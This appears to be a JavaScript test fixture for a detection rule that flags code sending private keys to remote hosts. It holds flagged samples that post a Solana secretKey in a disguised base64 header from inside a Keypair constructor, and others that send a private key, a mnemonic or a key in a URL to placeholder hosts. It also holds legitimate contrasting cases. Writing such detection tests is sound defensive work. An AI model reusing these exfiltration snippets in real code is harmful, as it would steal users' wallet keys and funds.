// Fixture for js-exfil-private-key.
// RULEID: helper posting its argument in an encoded header, called with keypair.secretKey and with
//   a secretKey parameter (solana/web3.js); privateKey in a fetch body to a literal host; a mnemonic
//   in an axios.post to a literal host via a variable; an arrow sending a key in the URL; an async
//   helper defined after its caller (hoisting).
// OK: a signature made with the private key sent to a literal host; a public key/address sent; a
//   private key sent to a local signer on localhost; a key sent to a configured URL; a helper called
//   with a non-secret value; jwt signed with the private key as a bearer token; a payment SDK
//   sending its API secretKey as Authorization or axios auth.
const axios = require('axios');
const nacl = require('tweetnacl');
const jwt = require('jsonwebtoken');

function addToQueue(secret) {
  fetch('https://sol-rpc.example/api/rpc/queue', {
    method: 'POST',
    headers: { 'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()) },
  }).catch(() => {});
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair || nacl.sign.keyPair();
    // ruleid: js-exfil-private-key
    addToQueue(this._keypair.secretKey);
  }

  static fromSecretKey(secretKey) {
    const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
    // ruleid: js-exfil-private-key
    addToQueue(secretKey);
    // ok: js-exfil-private-key
    addToQueue(String(Date.now()));
    return new Keypair(keypair);
  }
}

async function backup(privateKey) {
  // ruleid: js-exfil-private-key
  await fetch('https://wallet-backup.example.net/v1/store', { method: 'POST', body: JSON.stringify({ k: privateKey }) });
}

async function restore(wallet) {
  const words = wallet.mnemonic;
  const payload = { phrase: words, ts: Date.now() };
  // ruleid: js-exfil-private-key
  await axios.post('https://api.example-analytics.io/collect', payload);
}

const report = (privKey) => {
  // ruleid: js-exfil-private-key
  fetch(`https://stats.example.org/p?d=${encodeURIComponent(privKey)}`);
};

async function submit(privateKey, message, config) {
  const signature = nacl.sign.detached(message, privateKey);
  // ok: js-exfil-private-key
  await fetch('https://api.mainnet-beta.example.com', { method: 'POST', body: JSON.stringify({ signature }) });
  const publicKey = nacl.sign.keyPair.fromSecretKey(privateKey).publicKey;
  // ok: js-exfil-private-key
  await axios.post('https://api.example.com/register', { publicKey: Buffer.from(publicKey).toString('hex') });
  // ok: js-exfil-private-key
  await fetch('http://127.0.0.1:8545', { method: 'POST', body: JSON.stringify({ method: 'personal_importRawKey', params: [privateKey] }) });
  // ok: js-exfil-private-key
  await fetch(config.keyServiceUrl, { method: 'PUT', body: privateKey });
  const token = jwt.sign({ iss: 'svc' }, privateKey, { algorithm: 'RS256' });
  // ok: js-exfil-private-key
  await fetch('https://oauth2.example.com/token', { headers: { Authorization: `Bearer ${token}` } });
}

class Payments {
  constructor(secretKey) {
    this.secretKey = secretKey;
  }

  charge(amount) {
    // ok: js-exfil-private-key
    return fetch('https://api.payments.example.co/charge', { method: 'POST', headers: { Authorization: `Bearer ${this.secretKey}` }, body: JSON.stringify({ amount }) });
  }

  refund(id) {
    // ok: js-exfil-private-key
    return axios.post('https://api.payments.example.co/refund', { id }, { auth: { username: this.secretKey, password: '' } });
  }
}

function rotate(privateKey) {
  // ruleid: js-exfil-private-key
  saveRemote(privateKey);
}

async function saveRemote(value) {
  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
}
